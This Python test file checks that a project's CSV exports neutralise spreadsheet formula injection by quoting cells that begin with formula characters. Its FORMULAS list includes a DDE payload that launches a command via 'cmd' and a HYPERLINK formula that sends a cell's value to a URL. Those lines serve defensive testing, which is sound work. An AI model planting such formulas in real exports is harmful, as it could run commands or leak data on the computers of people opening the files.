"""Exports as CSV: no cell is a formula, whoever wrote it, and numbers and other texts are unchanged."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from common.format import csv_text, harmless_cell, records_csv
from evaluate.study.tables import StudyTable, TableColumn
from tests.conftest import ROOT
from tests.ui.test_records import records
from ui.test_bench import records_to_csv

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    '"=1',
    "'=1",
    "\"' =1",
    "\ufeff=1",
    "\uff1d1",
    "\u00a0@a",
    "\ttext",
]
HARMLESS = ["a", "", "a = b", "1", "-1.5", "+2e-3", "-.5", "x-y", "1,2", "#a", "(a)", 'say "a"', "[-1]", "https://a"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    (header, row) = csv.reader(io.StringIO(csv_text([text], [[text]]), newline=""))
    assert header == row == [f"'{text}"]
    assert row[0][1:] == text, "it can be read back"


@pytest.mark.parametrize("line_end", ["\n", "\r\n"])
def test_a_line_end_in_a_cell_begins_no_row(line_end: str) -> None:
    cells = ["a\r=1", "b\n=1", "c\r\n=1"]
    assert list(csv.reader(io.StringIO(csv_text(["h"] * 3, [cells], line_end), newline=""))) == [["h"] * 3, cells]


@pytest.mark.parametrize("value", [*HARMLESS, -1, 2.5, None, True])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert harmless_cell(value) == value


def test_every_field_of_a_comparison_is_harmless() -> None:
    record: Any = dict(records()[0])  # with texts where the type has none
    texts = {name: FORMULAS[0] for name, value in record.items() if isinstance(value, str) or value is None}
    (row,) = csv.DictReader(io.StringIO(records_to_csv([record | texts | {"=name": 1}]), newline=""))
    assert "'=name" in row
    assert {row[name] for name in texts} == {f"'{FORMULAS[0]}"}


def test_tables_of_the_study_are_harmless() -> None:
    table = StudyTable("a", "b", (TableColumn("=c", "text"),), (("=d",),))
    assert table.to_csv() == "'=c\n'=d\n"


def test_records_have_a_column_for_every_key() -> None:
    assert records_csv([{"a": 1}, {"b": None, "a": "=2"}]) == "a,b\n1,\n'=2,\n"


def test_only_one_module_writes_csv() -> None:
    # ui/train/events.py writes rows to learn from, which must not be changed and which no spreadsheet opens.
    allowed = {"common/format.py", "ui/train/events.py"}
    folders = ("adapters", "common", "evaluate", "jobs", "models", "serve", "tasks", "train", "ui")
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in folders
        for path in (ROOT / folder).rglob("*.py")
        if _writes_csv(path)
    }
    assert found == allowed


def _writes_csv(path: Path) -> bool:
    return any(
        isinstance(node, ast.Attribute)
        and node.attr in {"writer", "DictWriter"}
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
    )
